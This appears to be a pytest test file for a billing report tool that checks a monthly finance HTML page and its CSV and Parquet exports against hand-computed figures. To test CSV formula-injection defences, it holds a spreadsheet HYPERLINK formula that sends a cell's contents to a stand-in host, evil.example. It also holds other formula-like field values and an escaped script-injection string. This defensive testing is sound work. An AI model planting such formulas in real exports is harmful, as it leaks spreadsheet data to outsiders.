"""`billing report`: the month's self-contained finance page and the finance exports.

The warehouse is filled by hand with known rows (tests/support/finance_report.py); the golden
values below are computed by hand from them. The page in a real browser:
tests/integration/test_report_chromium.py.
"""

from __future__ import annotations

from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest

from pipelines.warehouse import connect_writer, sql
from tests.support.finance_report import (
    CHARTS,
    CREDIT_NOTE_TYPES,
    INVOICE_TYPES,
    MONTH,
    ORPHAN_DETAIL,
    PAYMENT_TYPES,
    REJECTION_REASON,
    SECTION_IDS,
    USAGE_TYPES,
    parse,
)


def test_report_page_shows_hand_computed_figures(report: dict[str, object]) -> None:
    html = str(report["html"])
    page = parse(html)
    assert page.sections == SECTION_IDS
    for section, charts in CHARTS.items():
        assert page.svgs.get(section) == charts, section

    # summary: 11 invoices of January (inv_h is December; inv_c_s is a supplementary invoice);
    # totals per currency, never mixed
    assert "<dt>Invoices</dt><dd>11</dd>" in html
    assert "<dd>2026-02-01 12:00 UTC</dd>" in html  # generated at BILLING_NOW
    assert "<dd>2026-02-01 06:00 UTC</dd>" in html  # reconciled at
    assert page.body("summary", "totals") == [
        # currency, invoices, issued, issued total, awaiting issue, awaiting total, voided
        ["EUR", "4", "3", "1,235.00", "0", "0.00", "1"],      # 1000.25 + 234.25 + 0.50
        ["JPY", "1", "1", "150,000", "0", "0", "0"],
        ["USD", "6", "2", "105.49", "4", "511.01", "0"],      # 500 + 10 + 1 + 0.01 waiting
    ]
    counts = page.body("summary", "match-counts")
    assert ["invoice", "matched", "2"] in counts
    assert ["credit_note", "matched", "1"] in counts
    assert ["payment", "matched", "1"] in counts
    assert ["usage", "matched", "1"] in counts

    # revenue: issued invoices only (draft, draft.*, issuing, issuing.*, voided left out)
    assert page.body("revenue", "revenue") == [
        ["EUR", "starter", "Starter", "2", "1,234.50"],
        ["EUR", "pro", "Pro & Co <b>", "1", "0.50"],
        ["EUR", "all plans", "", "3", "1,235.00"],
        ["JPY", "enterprise", "Enterprise", "1", "150,000"],
        ["JPY", "all plans", "", "1", "150,000"],
        ["USD", "pro", "Pro & Co <b>", "2", "105.49"],    # 99.99 + its supplementary 5.50
        ["USD", "all plans", "", "2", "105.49"],
    ]

    # discrepancies: one of each type, the December rows left out, the orphan in
    expected = {("invoice", t) for t in INVOICE_TYPES} | {("payment", t) for t in PAYMENT_TYPES}
    expected |= {("usage", t) for t in USAGE_TYPES}
    expected |= {("credit_note", t) for t in CREDIT_NOTE_TYPES}
    found = page.body("discrepancies", "discrepancy-counts")
    assert {(kind, status) for kind, status, _ in found} == expected
    assert all(n == "1" for _, _, n in found)
    findings = page.body("discrepancies", "findings")
    assert len(findings) == 19
    assert "December" not in html and "inv_h" not in html
    orphan = next(r for r in findings if r[4] == "orphan_in_provider")
    assert orphan[:4] == ["invoice", "inv_ghost orphan", "\u2014", "stripe"]
    assert orphan[5] == ORPHAN_DETAIL
    assert ["payment", "inv_b", "cust_inv_b", "stripe", "paid_in_ledger_not_at_provider",
            "paid_in_ledger_not_at_provider on inv_b"] in findings
    assert ["credit_note", "cn_b", "cust_inv_k", "stripe", "amount_mismatch",
            "credited 0.20 EUR in the ledger, 0.30 EUR at stripe"] in findings
    assert ["credit_note", "cn_ghost orphan", "\u2014", "stripe", "orphan_in_provider",
            "stripe credit note cn_s_ghost claims credit note cn_ghost"] in findings

    # corrections of January's invoices: per currency, never mixed
    assert page.body("corrections", "correction-totals") == [
        # currency, corrections, approved, pending, rejected, increases, decreases,
        # supplementary issued, credit notes issued (the manual 0.20 included)
        ["EUR", "2", "1", "0", "1", "0.00", "-10.00", "0.00", "10.20"],
        ["JPY", "1", "0", "1", "0", "0", "0", "0", "0"],
        ["USD", "1", "1", "0", "0", "5.50", "0.00", "5.50", "0.00"],
    ]
    # what, on which document, decided by whom and why (the rejection reason escaped)
    assert page.body("corrections", "corrections") == [
        ["2026-01-30 07:00 UTC", "inv_a", "API calls", "100.00", "100.00", "90.00", "EUR -10.00",
         "credit note CN-202601-00001 (issued)", "approved", "auto_approve",
         "2026-01-30 07:30 UTC", "\u2014"],
        ["2026-01-30 08:00 UTC", "inv_b", "Storage", "20.00", "20.00", "24.00", "EUR 4.00",
         "none", "rejected", "finance:bob", "2026-01-30 08:30 UTC", REJECTION_REASON],
        ["2026-01-30 09:00 UTC", "inv_g", "API calls", "150,000", "150,000", "151,000",
         "JPY 1,000", "supplementary invoice once approved", "pending_approval", "\u2014",
         "\u2014", "\u2014"],
        ["2026-01-30 10:00 UTC", "inv_c", "API calls", "50.00", "50.00", "55.50", "USD 5.50",
         "supplementary invoice INV-202601-00099 (issued)", "approved", "finance:ana",
         "2026-01-30 10:30 UTC", "\u2014"],
    ]
    assert "goodwill &lt;b&gt;promised&lt;/b&gt;" in html
    # waiting for a person: November's correction too (pending approvals of every month)
    assert [r[:4] + r[8:] for r in page.body("corrections", "pending-corrections")] == [
        ["corr_nov", "2025-11", "2026-01-30 06:00 UTC", "inv_nov", "USD 5.00",
         "supplementary invoice"],
        ["corr_c", "2026-01", "2026-01-30 09:00 UTC", "inv_g", "JPY 1,000",
         "supplementary invoice"],
    ]
    history = page.body("corrections", "correction-history")
    assert [r[1] for r in history] == ["corr_a", "corr_a", "corr_d", "corr_d", "corr_c",
                                       "corr_b", "corr_b"]
    assert history[3][3:] == ["pending_approval", "rejected", "finance:bob", REJECTION_REASON]
    # credit notes of January's invoices (not December's), with their reconciliation
    assert [[r[0], r[1], r[3], r[4], r[5], r[6], r[8], r[10]]
            for r in page.body("corrections", "credit-notes")] == [
        ["CN-202601-00001", "inv_a", "correction", "correction", "EUR 10.00", "issued",
         "billing_run", "matched"],
        ["CN-202601-00002", "inv_k", "manual", "goodwill gesture", "EUR 0.20", "issued",
         "finance:ana", "amount_mismatch"],
    ]
    assert page.body("corrections", "supplementary-invoices") == [
        ["INV-202601-00099", "inv_c", "cust_inv_c", "USD 5.50", "issued",
         "2026-02-01 06:00 UTC"]]
    assert "CN-202512" not in html and "cn_dec" not in html

    # sync health: 2025-12-02 .. 2026-01-31 only
    sync = page.body("sync-health", "sync")
    assert [(r[0], r[1], r[2], r[4], r[6]) for r in sync] == [
        ("custom_invoicing", "2026-01-10", "12", "1", "0"),
        ("stripe", "2025-12-02", "40", "2", "5"),
        ("stripe", "2026-01-05", "120", "3", "9"),
    ]
    assert [r[0] for r in page.body("sync-health", "pipeline")] == ["2026-01-03"]

    # aging: bucket x currency, exact sums
    aging = {r[0]: r for r in page.body("aging", "aging")}
    # columns: currency, due in 0-30, 31-60, 61-90, 90+ days, total due, invoices
    assert aging["EUR"] == ["EUR", "1,234.50", "", "", "", "1,234.50", "2"]
    assert aging["USD"] == ["USD", "", "99.99", "", "1,234,567.89", "1,234,667.88", "2"]
    assert aging["JPY"] == ["JPY", "", "", "150,000", "", "150,000", "1"]

    # alerts: most severe first
    alerts = page.body("alerts", "alerts")
    assert [r[:2] for r in alerts] == [["critical", "sync_failed:stripe:inv_e"],
                                       ["warning", "sla:custom_invoicing:inv_x"]]

    # every text escaped; nothing loaded from anywhere
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; &amp; no ledger" in html
    assert "Pro &amp; Co &lt;b&gt;" in html
    for forbidden in ("<script", "<link", "src=", "http:", "https:", "url(", "@import"):
        assert forbidden not in html.lower(), forbidden


def test_report_exports_whole_tables_exactly(report: dict[str, object]) -> None:
    out = Path(str(report["out"]))
    names = ["finance_invoice_reconciliation", "finance_credit_note_reconciliation",
             "finance_payment_reconciliation", "finance_usage_reconciliation",
             "finance_receivables_aging", "billing_corrections", "finance_trial_balance",
             "finance_deferred_revenue_balance", "finance_tax_report"]
    printed = str(report["printed"])
    assert f"wrote {report['page']}" in printed
    for name in names:
        for suffix in ("csv", "parquet"):
            assert f"wrote {out / f'{name}.{suffix}'}" in printed
    assert sorted(p.name for p in out.iterdir()) == sorted(
        [f"billing-report-{MONTH}.html"] + [f"{n}.{s}" for n in names for s in ("csv", "parquet")])

    aging = pl.read_parquet(out / "finance_receivables_aging.parquet")
    assert aging.schema["amount_due"] == pl.Decimal(38, 12)
    old = aging.filter(pl.col("invoice_id") == "inv_old")["amount_due"].to_list()
    assert old == [Decimal("1234567.89")]
    # the whole table, not only the month: December's finding is exported too
    invoices = pl.read_parquet(out / "finance_invoice_reconciliation.parquet")
    assert invoices.height == 11
    assert invoices.schema["ledger_total"] == pl.Decimal(38, 12)
    assert "inv_h" in invoices["invoice_id"].to_list()
    assert pl.read_parquet(out / "finance_usage_reconciliation.parquet").height == 6
    # credit notes' reconciliation and every correction, of every month, amounts exact
    credit_notes = pl.read_parquet(out / "finance_credit_note_reconciliation.parquet")
    assert sorted(credit_notes["credit_note_id"].to_list()) == ["cn_a", "cn_b", "cn_dec",
                                                                 "cn_ghost"]
    corrections = pl.read_parquet(out / "billing_corrections.parquet")
    assert corrections.schema["delta"] == pl.Decimal(38, 12)
    assert dict(zip(corrections["correction_id"], corrections["delta"], strict=True)) == {
        "corr_a": Decimal("-10"), "corr_d": Decimal("4"), "corr_c": Decimal("1000"),
        "corr_b": Decimal("5.5"), "corr_nov": Decimal("5")}
    assert corrections.filter(pl.col("correction_id") == "corr_b")[
        "document_number"].to_list() == ["INV-202601-00099"]
    header = (out / "billing_corrections.csv").read_text(encoding="utf-8").splitlines()[0]
    assert header.startswith("correction_id,invoice_id,line_id,customer_id,billing_month")
    csv = (out / "finance_receivables_aging.csv").read_text(encoding="utf-8").splitlines()
    assert csv[0].startswith("invoice_id,invoice_number,customer_id,provider,currency,amount_due")
    assert len(csv) == 6
    assert any(",1234567.890000000000," in line for line in csv)
    # the journal per posting month and account, every month, its balance running
    trial = pl.read_parquet(out / "finance_trial_balance.parquet")
    assert trial.schema["balance"] == pl.Decimal(38, 12)
    receivable = trial.filter(pl.col("account") == "1200 Accounts receivable",
                              pl.col("currency") == "EUR")
    # 119.00 (Dec); + 1,000.25 - 234.25 (Jan) = 885.00; - 1,000.25 (Feb) = -115.25
    assert receivable.select("month", "net", "balance").rows() == [
        ("2025-12", Decimal("119"), Decimal("119")), ("2026-01", Decimal("766"),
                                                      Decimal("885")),
        ("2026-02", Decimal("-1000.25"), Decimal("-115.25"))]
    assert pl.read_parquet(out / "finance_tax_report.parquet").height == 4
    assert pl.read_parquet(out / "finance_deferred_revenue_balance.parquet")[
        "balance"].to_list() == [Decimal("81.11"), Decimal("46.67")]


def test_report_journal_and_tax_sections_show_hand_computed_figures(
        report: dict[str, object]) -> None:
    """The seeded journal (tests/support/finance_report.py JOURNAL) per account for January,
    the trial balance per currency, revenue recognized and deferred per month, the tax report."""
    page = parse(str(report["html"]))
    assert page.body("journal", "trial-balance") == [
        # currency, account, lines, debits, credits, net (of January), balance (end of January)
        ["EUR", "1110 Stripe clearing", "1", "234.25", "0.00", "234.25", "234.25", ""],
        # Dec +119.00; Jan +1,000.25 - 234.25 = +766.00; balance 885.00 (Feb's payment left out)
        ["EUR", "1200 Accounts receivable", "2", "1,000.25", "234.25", "766.00", "885.00", ""],
        ["EUR", "2200 Sales tax payable", "0", "0.00", "0.00", "0.00", "-19.00", ""],
        # -100.00 deferred, +18.89 (Dec) +34.44 (Jan) recognized: -46.67
        ["EUR", "2400 Deferred revenue", "1", "34.44", "0.00", "34.44", "-46.67", ""],
        # -18.89 (Dec); Jan -1,000.25 - 34.44 = -1,034.69; balance -1,053.58
        ["EUR", "4000 Revenue", "2", "0.00", "1,034.69", "-1,034.69", "-1,053.58", ""],
        # debits 234.25 + 1,000.25 + 34.44 = 1,268.94 = credits 234.25 + 1,034.69;
        # balances 234.25 + 885.00 - 19.00 - 46.67 - 1,053.58 = 0
        ["EUR", "trial balance", "", "1,268.94", "1,268.94", "0.00", "0.00", "balanced"],
        ["USD", "1200 Accounts receivable", "1", "99.99", "0.00", "99.99", "99.99", ""],
        ["USD", "4000 Revenue", "1", "0.00", "99.99", "-99.99", "-99.99", ""],
        ["USD", "trial balance", "", "99.99", "99.99", "0.00", "0.00", "balanced"],
    ]
    assert page.body("journal", "revenue-recognized") == [
        # month, currency, at issue, from deferred, credit notes, recognized
        ["2025-12", "EUR", "1,000.25", "18.89", "0.00", "1,019.14", "over"],
        ["2026-01", "EUR", "0.00", "34.44", "-10.00", "24.44", "over"],   # 34.44 - 10.00
        ["2025-12", "USD", "99.99", "0.00", "0.00", "99.99", "over"],
    ]
    assert page.body("journal", "deferred-revenue") == [
        # 100.00 deferred in December, 18.89 recognized: 81.11; January 81.11 - 34.44 = 46.67
        ["2025-12", "EUR", "2400 Deferred revenue", "100.00", "18.89", "81.11"],
        ["2026-01", "EUR", "2400 Deferred revenue", "0.00", "34.44", "46.67"],
    ]
    assert page.body("tax", "tax-report") == [
        ["EUR", "DE", "—", "de_vat", "19 %", "exclusive", "990.25", "188.15", "2", "1"],
        ["EUR", "FR", "—", "—", "", "exclusive", "100.00", "0.00", "1", "0"],
        # 990.25 + 100.00; December's row (5,000.00) left out
        ["EUR", "all", "", "", "", "", "1,090.25", "188.15", "3", "1"],
        ["USD", "US", "CA", "us_ca_sales", "7.25 %", "exclusive", "99.99", "7.25", "1", "0"],
        ["USD", "all", "", "", "", "", "99.99", "7.25", "1", "0"],
    ]


def test_report_says_when_the_trial_balance_does_not_balance(
        billing_env: dict[str, Path], tmp_path: Path) -> None:
    """A journal line nobody balanced (written by hand, past the blocking check) shows red."""
    from pipelines.cli import main
    from tests.support.finance_report import seed_warehouse

    seed_warehouse(billing_env["warehouse"])
    with connect_writer(str(billing_env["warehouse"])) as con:
        con.execute("UPDATE finance.journal_lines SET debit = 99.98 "
                    "WHERE entry_id = 'je_c' AND line_no = 1")
    main(["report", "--month", MONTH, "--out", str(tmp_path / "out")])
    page = parse((tmp_path / "out" / f"billing-report-{MONTH}.html").read_text("utf-8"))
    assert page.body("journal", "trial-balance")[-1] == [
        "USD", "trial balance", "", "99.98", "99.99", "-0.01", "-0.01", "does not balance"]


HOSTILE_DESCRIPTION = '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")'


def test_csv_exports_keep_formulas_out_and_numbers_in(
        billing_env: dict[str, Path], tmp_path: Path) -> None:
    """A description, a reason and an actor that a spreadsheet would run as formulas are
    prefixed with a quote in the CSV; negative amounts stay numbers; Parquet keeps the text."""
    import csv

    from pipelines.cli import main
    from tests.support.finance_report import seed_warehouse

    seed_warehouse(billing_env["warehouse"])
    with connect_writer(str(billing_env["warehouse"])) as con:
        con.execute("""
            UPDATE billing.corrections
            SET description = $description, reason = '+1 free month', decided_by = '@ops',
                run_id = chr(9) || '=1+1', line_id = '-line'
            WHERE correction_id = 'corr_a'""", {"description": HOSTILE_DESCRIPTION})
        con.execute("""
            UPDATE finance.receivables_aging SET customer_id = '-2+3', amount_due = -234.25
            WHERE invoice_id = 'inv_b'""")
    out = tmp_path / "out"
    main(["report", "--month", MONTH, "--out", str(out)])

    with (out / "billing_corrections.csv").open(encoding="utf-8", newline="") as handle:
        rows = {row["correction_id"]: row for row in csv.DictReader(handle)}
    hostile = rows["corr_a"]
    assert hostile["description"] == "'" + HOSTILE_DESCRIPTION
    assert (hostile["reason"], hostile["decided_by"], hostile["run_id"], hostile["line_id"]) == (
        "'+1 free month", "'@ops", "'\t=1+1", "'-line")
    assert Decimal(hostile["delta"]) == Decimal("-10")        # a negative amount stays a number
    assert hostile["delta"].startswith("-")
    assert rows["corr_b"]["description"] == "API calls"       # other text untouched
    assert list(rows) == pl.read_parquet(out / "billing_corrections.parquet")[
        "correction_id"].to_list()                            # the same rows in the same order
    parquet = pl.read_parquet(out / "billing_corrections.parquet").filter(
        pl.col("correction_id") == "corr_a")
    assert parquet["description"].to_list() == [HOSTILE_DESCRIPTION]
    # every CSV export does the same
    with (out / "finance_receivables_aging.csv").open(encoding="utf-8", newline="") as handle:
        aging = {row["invoice_id"]: row for row in csv.DictReader(handle)}
    assert (aging["inv_b"]["customer_id"], aging["inv_b"]["amount_due"]) == (
        "'-2+3", "-234.250000000000")
    assert aging["inv_old"]["aging_bucket"] == "90+"

def test_report_on_an_empty_warehouse_says_nothing_to_report(
        billing_env: dict[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    from pipelines.cli import main

    with connect_writer(str(billing_env["warehouse"])) as con:
        con.execute(sql("reconciliation_schema"))
    monkeypatch.chdir(tmp_path)
    main(["report", "--month", "2026-03"])  # default folder: reports/YYYY-MM/
    page = tmp_path / "reports" / "2026-03" / "billing-report-2026-03.html"
    assert f"wrote {page}" in capsys.readouterr().out
    html = page.read_text(encoding="utf-8")
    parsed = parse(html)
    assert parsed.sections == SECTION_IDS
    sections = html.split("<section ")[1:]
    for section in sections:
        assert "Nothing to report" in section, section[:60]
    assert not parsed.svgs
    assert pl.read_parquet(page.parent / "finance_invoice_reconciliation.parquet").height == 0


def test_report_without_finance_tables_still_writes_the_page(
        billing_env: dict[str, Path], tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    """A warehouse the reconciliation never touched (no finance.* tables): the page says so."""
    from pipelines.cli import main

    with connect_writer(str(billing_env["warehouse"])) as con:
        for table in ("finance.invoice_reconciliation", "finance.receivables_aging"):
            con.execute(f"DROP TABLE IF EXISTS {table}")
    main(["report", "--month", MONTH, "--out", str(tmp_path / "out")])
    printed = capsys.readouterr().out
    assert "skipped finance.invoice_reconciliation" in printed
    assert "skipped finance.receivables_aging" in printed
    html = (tmp_path / "out" / f"billing-report-{MONTH}.html").read_text(encoding="utf-8")
    assert "Not in the warehouse yet: finance.invoice_reconciliation" in html
    assert parse(html).sections == SECTION_IDS


@pytest.mark.parametrize("month", ["2026-13", "2026-1", "26-01", "January", "2026-01-01"])
def test_report_rejects_a_bad_month(billing_env: dict[str, Path], month: str) -> None:
    from pipelines.cli import main

    with pytest.raises(SystemExit, match="billing report: --month must be YYYY-MM"):
        main(["report", "--month", month])
